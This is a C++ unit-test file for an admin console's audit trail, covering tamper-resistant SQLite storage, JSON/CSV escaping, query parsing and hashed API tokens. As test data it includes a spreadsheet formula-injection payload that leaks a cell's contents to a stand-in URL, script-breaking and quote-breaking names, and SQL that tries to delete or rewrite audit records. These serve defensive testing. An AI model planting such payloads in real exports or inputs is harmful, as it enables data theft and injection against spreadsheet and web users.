// Tests of the audit trail's store (a restart, eight writers at once, filters, records that stay
// as written), its JSON and CSV, the Audit Trail page's query, and the API token file.
#include <sqlite3.h>
#include <sys/stat.h>

#include <regex>
#include <string>
#include <thread>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "common/temp_dir.h"
#include "console/account_file.h"
#include "console/audit.h"
#include "console/audit_page.h"
#include "console/cli.h"
#include "console/tokens.h"

namespace {

using namespace kel::console;
using ::testing::HasSubstr;
using ::testing::Not;

std::unique_ptr<AuditStore> OpenStore(const std::string &dir) {
    std::string error;
    std::unique_ptr<AuditStore> store = AuditStore::Open(dir, &error);
    EXPECT_NE(store, nullptr) << error;
    return store;
}

std::vector<AuditRecord> All(AuditStore &store, std::size_t *total = nullptr) {
    AuditFilter filter;
    filter.limit = 100000;
    std::vector<AuditRecord> items;
    std::size_t count = 0;
    EXPECT_TRUE(store.Query(filter, &items, &count)) << store.LastError();
    if (total != nullptr) {
        *total = count;
    }
    return items;
}

// Runs `sql` on the database through a connection of its own, as another program would.
int Tamper(const std::string &dir, const char *sql) {
    sqlite3 *db = nullptr;
    sqlite3_open((dir + "/" + kAuditFileName).c_str(), &db);
    const int result = sqlite3_exec(db, sql, nullptr, nullptr, nullptr);
    sqlite3_close(db);
    return result;
}

TEST(AuditStore, RecordsSurviveReopeningAndStayAsWritten) {
    testing_support::TempDir dir;
    const std::string state = dir.str() + "/var/kelconsole";
    {
        auto store = OpenStore(state);
        ASSERT_NE(store, nullptr);
        const std::int64_t id = store->Begin(1700000000, "admin", false, "192.0.2.7", "/x/close");
        ASSERT_NE(id, 0);
        ASSERT_TRUE(store->Finish(
            id, {{"close file", "a.txt", "closed"}, {"close file", "b.txt", "failed: busy"}}, 200));
        ASSERT_NE(store->Begin(1700000100, "reader", true, "192.0.2.8", "login"), 0);
    }
    struct stat st {};
    ASSERT_EQ(stat(state.c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0700u);
    ASSERT_EQ(stat((state + "/" + kAuditFileName).c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 0077, 0u);

    auto store = OpenStore(state);
    ASSERT_NE(store, nullptr);
    std::size_t total = 0;
    const std::vector<AuditRecord> items = All(*store, &total);
    ASSERT_EQ(total, 2u);
    ASSERT_EQ(items.size(), 2u);
    EXPECT_EQ(items[0].account, "reader");  // newest first
    EXPECT_TRUE(items[0].viaToken);
    EXPECT_EQ(items[0].status, 0);  // begun, never finished
    EXPECT_EQ(items[1].time, 1700000000);
    EXPECT_EQ(items[1].client, "192.0.2.7");
    EXPECT_EQ(items[1].action, "/x/close");
    EXPECT_EQ(items[1].status, 200);
    ASSERT_EQ(items[1].targets.size(), 2u);
    EXPECT_EQ(items[1].targets[1].target, "b.txt");
    EXPECT_EQ(items[1].targets[1].result, "failed: busy");

    // A finished record is not finished again, and nothing is deleted or rewritten.
    EXPECT_FALSE(store->Finish(items[1].id, {}, 500));
    EXPECT_NE(Tamper(state, "DELETE FROM records"), SQLITE_OK);
    EXPECT_NE(Tamper(state, "DELETE FROM targets"), SQLITE_OK);
    EXPECT_NE(Tamper(state, "UPDATE records SET account = 'someone' WHERE status = 200"),
              SQLITE_OK);
    EXPECT_NE(Tamper(state, "UPDATE targets SET result = 'closed'"), SQLITE_OK);
    const std::vector<AuditRecord> again = All(*store);
    ASSERT_EQ(again.size(), 2u);
    EXPECT_EQ(again[1].account, "admin");
    EXPECT_EQ(again[1].status, 200);
    EXPECT_EQ(again[1].targets[1].result, "failed: busy");
}

TEST(AuditStore, EightThreadsAtOnceLoseNoRecordAndKeepTargetsWithTheirRecord) {
    testing_support::TempDir dir;
    auto store = OpenStore(dir.str());
    ASSERT_NE(store, nullptr);
    constexpr int kThreads = 8;
    constexpr int kEach = 60;
    std::vector<std::thread> threads;
    std::atomic<int> failures{0};
    for (int t = 0; t < kThreads; ++t) {
        threads.emplace_back([&, t] {
            for (int i = 0; i < kEach; ++i) {
                const std::string who = "t" + std::to_string(t) + "-" + std::to_string(i);
                const std::int64_t id = store->Begin(1700000000 + i, who, false, "::1", "/p");
                if (id == 0 ||
                    !store->Finish(id, {{"do", who, "done"}, {"do", who, "again"}}, 200 + t)) {
                    ++failures;
                }
            }
        });
    }
    for (std::thread &thread : threads) {
        thread.join();
    }
    EXPECT_EQ(failures.load(), 0);
    store.reset();
    store = OpenStore(dir.str());  // what was committed, read back by a new connection
    std::size_t total = 0;
    const std::vector<AuditRecord> items = All(*store, &total);
    ASSERT_EQ(total, static_cast<std::size_t>(kThreads * kEach));
    std::set<std::string> seen;
    for (const AuditRecord &record : items) {
        seen.insert(record.account);
        ASSERT_EQ(record.targets.size(), 2u) << record.account;
        EXPECT_EQ(record.targets[0].target, record.account);
        EXPECT_EQ(record.targets[1].target, record.account);
        EXPECT_EQ(record.targets[1].result, "again");
        EXPECT_EQ(record.status, 200 + (record.account[1] - '0'));
    }
    EXPECT_EQ(seen.size(), static_cast<std::size_t>(kThreads * kEach));
}

TEST(AuditStore, FiltersByTimeAccountAndActionAndPages) {
    auto store = OpenStore({});
    ASSERT_NE(store, nullptr);
    for (int i = 0; i < 10; ++i) {
        const std::int64_t id = store->Begin(1000 + i * 100, i % 2 == 0 ? "admin" : "guest", false,
                                             "c", i < 5 ? "login" : "/x/close");
        std::vector<AuditTarget> targets;
        if (i == 7) {
            targets.push_back({"end session", "connection 7", "ended"});
        }
        ASSERT_TRUE(store->Finish(id, targets, 303));
    }
    std::vector<AuditRecord> items;
    std::size_t total = 0;
    AuditFilter filter;
    filter.account = "guest";
    filter.action = "/x/close";
    ASSERT_TRUE(store->Query(filter, &items, &total));
    EXPECT_EQ(total, 3u);  // 5, 7, 9
    ASSERT_EQ(items.size(), 3u);
    EXPECT_EQ(items[0].time, 1900);

    // A target's action selects its record as well.
    filter = {};
    filter.action = "end session";
    ASSERT_TRUE(store->Query(filter, &items, &total));
    EXPECT_EQ(total, 1u);
    ASSERT_EQ(items.size(), 1u);
    EXPECT_EQ(items[0].time, 1700);

    filter = {};
    filter.from = 1200;
    filter.to = 1500;  // 1200, 1300, 1400
    filter.limit = 2;
    filter.offset = 2;
    ASSERT_TRUE(store->Query(filter, &items, &total));
    EXPECT_EQ(total, 3u);
    ASSERT_EQ(items.size(), 1u);
    EXPECT_EQ(items[0].time, 1200);
}

TEST(AuditStore, AFailedWriteIsReportedNotSwallowed) {
    testing_support::TempDir dir;
    auto store = OpenStore(dir.str());
    ASSERT_NE(store, nullptr);
    ASSERT_EQ(Tamper(dir.str(),
                     "CREATE TRIGGER refuse BEFORE INSERT ON records "
                     "BEGIN SELECT RAISE(ABORT, 'disk on fire'); END"),
              SQLITE_OK);
    EXPECT_EQ(store->Begin(1, "admin", false, "c", "/x"), 0);
    EXPECT_THAT(store->LastError(), HasSubstr("disk on fire"));
    std::string error;
    EXPECT_EQ(AuditStore::Open("/proc/no-such-dir/state", &error), nullptr);
    EXPECT_THAT(error, HasSubstr("/proc/no-such-dir"));
}

TEST(AuditOutput, HostileNamesStayInsideTheirJsonStringAndCsvField) {
    AuditRecord record;
    record.time = 1700000000;
    record.account = "evil\",\"x";
    record.client = "::1";
    record.action = "/x/close";
    record.status = 200;
    record.targets = {{"close file", "a\"b,c\r\nd</script><b>\x01\xff", "closed"}};
    const std::string json = AuditJson({record}, 7);
    EXPECT_EQ(json,
              "{\"total\": 7, \"items\": [\n{\"time\": \"2023-11-14T22:13:20Z\", \"account\": "
              "\"evil\\\",\\\"x\", \"viaToken\": false, \"client\": \"::1\", \"action\": "
              "\"/x/close\", \"status\": 200, \"targets\": [{\"action\": \"close file\", "
              "\"target\": \"a\\\"b,c\\u000d\\u000ad\\u003c/script\\u003e\\u003cb\\u003e\\u0001"
              "\\ufffd\", \"result\": \"closed\"}]}]}\n");
    const std::string csv = AuditCsv({record});
    EXPECT_EQ(csv,
              "time,account,via_token,client,action,status,target_action,target,result\r\n"
              "2023-11-14T22:13:20Z,\"evil\"\",\"\"x\",no,\"::1\",\"/x/close\",200,\"close "
              "file\",\"a\"\"b,c\r\nd</script><b>\x01\xff\",\"closed\"\r\n");
    // Good UTF-8 passes as it is.
    EXPECT_EQ(JsonString("gr\xC3\xBC\xC3\x9F \xF0\x9F\x93\x81"),
              "\"gr\xC3\xBC\xC3\x9F \xF0\x9F\x93\x81\"");
    EXPECT_EQ(JsonString("\xC0\xAF\xED\xA0\x80"), "\"\\ufffd\\ufffd\\ufffd\\ufffd\\ufffd\"");
}

// An account name comes from the login form of anyone, so the CSV must not hand a spreadsheet
// a formula: a field that starts with = + - @, a tab or a CR gets a leading '.
TEST(AuditOutput, CsvFieldsThatASpreadsheetWouldReadAsAFormulaAreDefused) {
    AuditRecord record;
    record.time = 1700000000;
    record.account = "=HYPERLINK(\"http://x/\"&A1)";
    record.client = "@SUM(1)";
    record.action = "login";
    record.status = 401;
    record.targets = {{"+cmd", "-2+3", "\tfailed"}, {"close file", "\r=1", "a=b"}};
    EXPECT_EQ(AuditCsv({record}),
              "time,account,via_token,client,action,status,target_action,target,result\r\n"
              "2023-11-14T22:13:20Z,\"'=HYPERLINK(\"\"http://x/\"\"&A1)\",no,\"'@SUM(1)\","
              "\"login\",401,\"'+cmd\",\"'-2+3\",\"'\tfailed\"\r\n"
              "2023-11-14T22:13:20Z,\"'=HYPERLINK(\"\"http://x/\"\"&A1)\",no,\"'@SUM(1)\","
              "\"login\",401,\"close file\",\"'\r=1\",\"a=b\"\r\n");
}

TEST(AuditQuery, ReadsFiltersAndRefusesMalformedValues) {
    AuditQuery query;
    std::string error;
    ASSERT_TRUE(
        ParseAuditQuery("from=2026-01-02&to=2026-01-02&account=a%2Bb&action=%2Fx+y&size="
                        "20&page=3&format=csv",
                        &query, &error))
        << error;
    EXPECT_EQ(query.filter.account, "a+b");
    EXPECT_EQ(query.filter.action, "/x y");
    EXPECT_EQ(query.filter.to - query.filter.from, 24 * 3600);  // the day "to" names is included
    EXPECT_EQ(query.filter.limit, 20u);
    EXPECT_EQ(query.filter.offset, 40u);
    EXPECT_EQ(query.format, "csv");
    ASSERT_TRUE(ParseAuditQuery("", &query, &error));
    EXPECT_EQ(query.filter.limit, kAuditPageSize);
    for (const char *bad : {"from=2026-13-01", "to=yesterday", "from=2026-1-1", "size=0",
                            "size=1001", "page=0", "page=-1", "format=xml"}) {
        EXPECT_FALSE(ParseAuditQuery(bad, &query, &error)) << bad;
    }
}

TEST(ApiTokens, CreateListRevokeKeepOnlyTheHashInAPrivateFile) {
    testing_support::TempDir dir;
    const std::string path = TokenFileFor(dir.str() + "/etc/accounts");
    EXPECT_EQ(path, dir.str() + "/etc/tokens");
    std::string first;
    std::string second;
    std::string error;
    ASSERT_TRUE(CreateToken(path, "script", kReadAccess, &first, &error)) << error;
    ASSERT_TRUE(CreateToken(path, "deploy", kAdministratorAccess, &second, &error)) << error;
    EXPECT_TRUE(std::regex_match(first, std::regex("kel_[0-9a-f]{64}"))) << first;
    EXPECT_NE(first, second);
    EXPECT_FALSE(CreateToken(path, "script", kReadAccess, &first, &error));
    EXPECT_FALSE(CreateToken(path, "bad:name", kReadAccess, &first, &error));

    struct stat st {};
    ASSERT_EQ(stat(path.c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0600u);
    const std::string text = testing_support::ReadFile(path);
    EXPECT_THAT(text, Not(HasSubstr(first.substr(4, 60))));
    EXPECT_THAT(text, HasSubstr("script:" + HashToken(first) + ":0x00000009:"));
    EXPECT_THAT(text, HasSubstr("deploy:" + HashToken(second) + ":0x0000000b:"));
    // SHA-256 of "abc" (FIPS 180-2, appendix B.1).
    EXPECT_EQ(HashToken("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");

    std::vector<ApiToken> tokens;
    ASSERT_TRUE(LoadTokenFile(path, &tokens, &error)) << error;
    ASSERT_EQ(tokens.size(), 2u);
    EXPECT_EQ(tokens[0].hint, first.substr(first.size() - 4));

    TokenStore store(path);
    ASSERT_TRUE(store.Find(first).has_value());
    EXPECT_EQ(store.Find(first)->name, "script");
    EXPECT_EQ(store.Find(second)->access, kAdministratorAccess);
    std::string altered = first;
    altered.back() = altered.back() == '0' ? '1' : '0';
    EXPECT_FALSE(store.Find(altered).has_value());
    EXPECT_FALSE(store.Find(HashToken(first)).has_value());  // the stored hash is no token

    ASSERT_TRUE(RevokeToken(path, "script", &error)) << error;
    EXPECT_FALSE(store.Find(first).has_value());  // at once, in the same second
    EXPECT_TRUE(store.Find(second).has_value());
    EXPECT_FALSE(RevokeToken(path, "script", &error));
    EXPECT_THAT(error, HasSubstr("no token"));
}

TEST(ApiTokens, MalformedLinesAreRefused) {
    std::vector<ApiToken> tokens;
    std::string error;
    const std::string hash(64, 'a');
    EXPECT_TRUE(ParseTokens("# c\n\nn:" + hash + ":0x00000009:17:abcd\n", &tokens, &error));
    for (const std::string &bad :
         {"n:" + hash + ":0x9:17\n", "n:" + hash.substr(1) + ":0x9:17:abcd\n",
          "n:" + std::string(64, 'G') + ":0x9:17:abcd\n", "n:" + hash + ":read?:17:abcd\n",
          "n:" + hash + ":0x9:-1:abcd\n", "n:" + hash + ":0x9:17:abcde\n",
          "n:" + hash + ":0x9:17:a\nn:" + hash + ":0x9:17:b\n"}) {
        EXPECT_FALSE(ParseTokens(bad, &tokens, &error)) << bad;
    }
    EXPECT_TRUE(EqualInConstantTime("abc", "abc"));
    EXPECT_FALSE(EqualInConstantTime("abc", "abd"));
    EXPECT_FALSE(EqualInConstantTime("abc", "ab"));
}

TEST(CommandLine, ReadRoleStateDirectoryAndTokenCommands) {
    unsigned int access = 0;
    ASSERT_TRUE(ParseAccess("read", &access));
    EXPECT_EQ(access, 0x00000009u);
    CommandLine line;
    std::string error;
    ASSERT_TRUE(ParseCommandLine({"passwd", "--role=read", "viewer"}, &line, &error)) << error;
    EXPECT_EQ(line.passwdAccess, kReadAccess);

    line = {};
    ASSERT_TRUE(ParseCommandLine({"--state-dir=/srv/state"}, &line, &error)) << error;
    EXPECT_EQ(line.server.stateDirectory, "/srv/state");
    line = {};
    ASSERT_TRUE(ParseCommandLine({}, &line, &error)) << error;
    EXPECT_EQ(line.server.stateDirectory, DefaultStateDirectory());

    line = {};
    ASSERT_TRUE(ParseCommandLine({"token", "create", "--role", "admin", "ci"}, &line, &error))
        << error;
    EXPECT_EQ(line.command, CommandLine::Command::kToken);
    EXPECT_EQ(line.tokenAction, CommandLine::TokenAction::kCreate);
    EXPECT_EQ(line.tokenName, "ci");
    EXPECT_EQ(line.passwdAccess, kAdministratorAccess);
    line = {};
    ASSERT_TRUE(ParseCommandLine({"token", "list"}, &line, &error)) << error;
    EXPECT_EQ(line.tokenAction, CommandLine::TokenAction::kList);
    for (const std::vector<std::string> &bad :
         std::vector<std::vector<std::string>>{{"token"},
                                               {"token", "show"},
                                               {"token", "create"},
                                               {"token", "create", "--role=none", "x"},
                                               {"token", "revoke", "a", "b"},
                                               {"token", "list", "--listen=1.2.3.4"},
                                               {"passwd", "--state-dir=/x", "a"}}) {
        line = {};
        EXPECT_FALSE(ParseCommandLine(bad, &line, &error)) << bad.size();
    }
}

}  // namespace
